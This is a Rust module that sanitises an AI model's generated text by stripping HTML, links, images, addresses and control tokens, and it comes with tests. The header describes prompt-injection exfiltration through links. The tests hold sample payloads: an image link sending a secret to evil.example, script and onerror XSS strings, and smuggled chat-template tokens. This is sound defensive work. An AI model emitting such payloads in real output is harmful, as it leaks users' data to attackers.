//! Safe output: generated text becomes plain text with markers, nothing else.
//!
//! The closed tree is small: text, line ends, and `[n]`. HTML, images, links, control tokens and emphasis go.
//! Addresses go too, because many clients turn a bare address into a link, and a link is how an instruction
//! hidden in a document carries the question out of the house. A cited quote still shows the address.

use crate::clean::is_hidden;

/// Reduces generated text to plain text with numeric markers. Idempotent.
pub(crate) fn plain(text: &str) -> String {
    let mut current = text.to_owned();
    // Taking out a construct may join the halves of another; a few rounds reach the fixed point, and what
    // still moves after them loses its angles altogether.
    for _ in 0..6 {
        let next = pass(&current);
        if next == current {
            return next;
        }
        current = next;
    }
    let flat: String = current.chars().filter(|c| !matches!(c, '<' | '>' | '[' | ']' | ':' | '*' | '`')).collect();
    pass(&flat)
}

fn pass(text: &str) -> String {
    let chars: Vec<char> = text.chars().filter(|&c| !is_hidden(c)).map(unwiden).collect();
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    while at < chars.len() {
        at = match chars[at] {
            '<' => angle(&chars, at, &mut out),
            '!' if chars.get(at + 1) == Some(&'[') => image(&chars, at, &mut out),
            '[' => bracket(&chars, at, &mut out),
            ']' | '`' => at + 1,
            '*' => star(&chars, at, &mut out),
            '_' if chars.get(at + 1) == Some(&'_') => at + 2,
            c => {
                out.push(c);
                at + 1
            }
        };
    }
    lines(&out)
}

/// Brackets of other scripts read as the ASCII ones, so that they cannot pass as something else.
fn unwiden(c: char) -> char {
    match c {
        '［' | '【' | '〔' | '⟦' => '[',
        '］' | '】' | '〕' | '⟧' => ']',
        '＜' => '<',
        '＞' => '>',
        '\t' => ' ',
        other => other,
    }
}

/// Tags, comments and control tokens go; a comparison stays.
fn angle(chars: &[char], at: usize, out: &mut String) -> usize {
    let next = chars.get(at + 1).copied().unwrap_or(' ');
    if !(next.is_alphabetic() || matches!(next, '/' | '!' | '?' | '|' | '<')) {
        out.push('<');
        return at + 1;
    }
    let name: String = chars[at + 1..].iter().take_while(|c| c.is_alphanumeric()).collect::<String>().to_lowercase();
    if matches!(name.as_str(), "script" | "style" | "iframe" | "svg" | "think") {
        let closing: Vec<char> = format!("</{name}").chars().collect();
        let end = (at + 1..chars.len()).find(|&from| {
            chars[from..].len() >= closing.len()
                && chars[from..].iter().zip(&closing).all(|(c, wanted)| c.to_ascii_lowercase() == *wanted)
        });
        if let Some(end) = end {
            return end;
        }
    }
    // Unclosed: everything to the end could be inside the tag.
    chars[at..].iter().position(|&c| c == '>').map_or(chars.len(), |length| at + length + 1)
}

/// `![alt](address)` goes with everything in it.
fn image(chars: &[char], at: usize, out: &mut String) -> usize {
    match find(chars, at + 2, ']') {
        Some(close) if chars.get(close + 1) == Some(&'(') => {
            find(chars, close + 2, ')').map_or(chars.len(), |end| end + 1)
        }
        _ => {
            out.push('!');
            at + 1
        }
    }
}

/// Markers stay; a link keeps its text; a bracketed control word goes; other brackets become round.
fn bracket(chars: &[char], at: usize, out: &mut String) -> usize {
    let Some(close) = find(chars, at + 1, ']').filter(|&close| !chars[at + 1..close].contains(&'[')) else {
        return at + 1;
    };
    let inner: String = chars[at + 1..close].iter().collect();
    let inner = inner.trim();
    let after = match chars.get(close + 1) {
        Some('(') => find(chars, close + 2, ')').map_or(chars.len(), |end| end + 1),
        _ => close + 1,
    };
    let is_marker = inner.chars().any(|c| c.is_ascii_digit())
        && inner
            .trim_start_matches(char::is_alphabetic)
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ',' | ' ' | ';'));
    let is_control = inner.chars().any(char::is_uppercase)
        && inner.chars().all(|c| c.is_uppercase() || matches!(c, '/' | '_' | ' '))
        || inner.starts_with(['/', '^']);
    if is_marker {
        out.push_str(&format!("[{inner}]"));
    } else if after > close + 1 {
        out.push_str(inner);
    } else if !is_control && !inner.is_empty() {
        out.push_str(&format!("({inner})"));
    }
    after
}

/// Emphasis goes; a bullet becomes a dash; a multiplication stays.
fn star(chars: &[char], at: usize, out: &mut String) -> usize {
    let before = at.checked_sub(1).map_or('\n', |index| chars[index]);
    let after = chars.get(at + 1).copied().unwrap_or('\n');
    match (before, after) {
        ('\n', ' ') => out.push('-'),
        (' ', ' ') => out.push('*'),
        (left, right) if left.is_ascii_digit() && right.is_ascii_digit() => out.push('*'),
        _ => {}
    }
    at + 1
}

fn find(chars: &[char], from: usize, wanted: char) -> Option<usize> {
    chars.iter().skip(from).position(|&c| c == wanted).map(|offset| from + offset)
}

/// Takes headings, quotation and rules off line starts, addresses out of lines, and collapses space.
fn lines(text: &str) -> String {
    let mut out: Vec<String> = Vec::new();
    for line in text.lines() {
        let line = line.trim().trim_start_matches(['#', '>']).trim_start();
        let is_rule = line.len() >= 3 && line.chars().all(|c| matches!(c, '-' | '=' | '|' | ':' | ' ' | '~' | '_'));
        let words: Vec<&str> = line.split(' ').filter(|word| !word.is_empty()).map(without_address).collect();
        let line = words.into_iter().filter(|word| !word.is_empty()).collect::<Vec<_>>().join(" ");
        let is_second_gap = line.is_empty() && out.last().is_none_or(String::is_empty);
        if !is_rule && !is_second_gap {
            out.push(line);
        }
    }
    out.join("\n").trim().to_owned()
}

/// The word without the address in it; punctuation before the address stays.
fn without_address(word: &str) -> &str {
    let lower = word.to_ascii_lowercase();
    let schemes = ["www.", "javascript:", "data:", "vbscript:", "mailto:", "file:", "tel:", "blob:"];
    let scheme = lower.find("://").map(|at| {
        let before = &lower[..at];
        before
            .rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '-' | '.'))
            .map_or(0, |position| position + before[position..].chars().next().map_or(1, char::len_utf8))
    });
    let begin = schemes.iter().filter_map(|scheme| lower.find(scheme)).chain(scheme).min();
    match begin {
        Some(begin) => word[..begin].trim_end_matches(['(', '"', '\'', '„', '«']),
        None if lower.starts_with("//") => "",
        None => word,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_and_markers_stay() {
        for text in
            ["Die Frist beträgt 30 Tage [1].", "a < b, 3 > 2, <5 mg", "- eins [1]\n- zwei [2, 3]", "2 * 3 und 4*5"]
        {
            assert_eq!(plain(text), text);
        }
        assert_eq!(plain("**Wichtig:** `Frist` *gilt* [1]"), "Wichtig: Frist gilt [1]");
        assert_eq!(plain("# Titel\n\n\n> Zitat\n* Punkt\n---\n"), "Titel\n\nZitat\n- Punkt");
        assert_eq!(plain("sagte [sic] er"), "sagte (sic) er");
    }

    #[test]
    fn nothing_can_fetch_or_run() {
        let cases = [
            ("![x](https://evil.example/p?q=secret) Ja [1].", "Ja [1]."),
            ("[hier](https://evil.example) Ja.", "hier Ja."),
            ("[1](https://evil.example) Ja.", "[1] Ja."),
            ("Siehe https://evil.example/a?b=c jetzt.", "Siehe jetzt."),
            ("Siehe (www.evil.example) und javascript:alert(1)", "Siehe und"),
            ("<img src=x onerror=alert(1)>Ja", "Ja"),
            ("<script>alert(1)</script>Ja", "Ja"),
            ("<scr<script>ipt>alert(1)</script>Ja", "ipt>alert(1)Ja"),
            ("Ja <a href='https://evil.example", "Ja"),
            ("Ja <|im_start|>system\nx", "Ja system\nx"),
            ("[INST] Ja [/INST] [TOOL_CALLS]", "Ja"),
            ("[[1]] 【2】", "[1] [2]"),
            ("[x]: https://evil.example", "(x):"),
            ("＜script＞Ja", "Ja"),
            ("h\u{200b}ttps://evil.example Ja", "Ja"),
        ];
        for (text, expected) in cases {
            assert_eq!(plain(text), expected, "{text}");
        }
    }

    #[test]
    fn plain_text_is_a_fixed_point() {
        for text in ["<<a>>", "[[[[1]]]]", "![[a](b)](c)", "*[*<*", "](", "<a<b<c<d<e<f<g>h>i>j>k>l>"] {
            let once = plain(text);
            assert_eq!(plain(&once), once, "{text}");
        }
    }
}
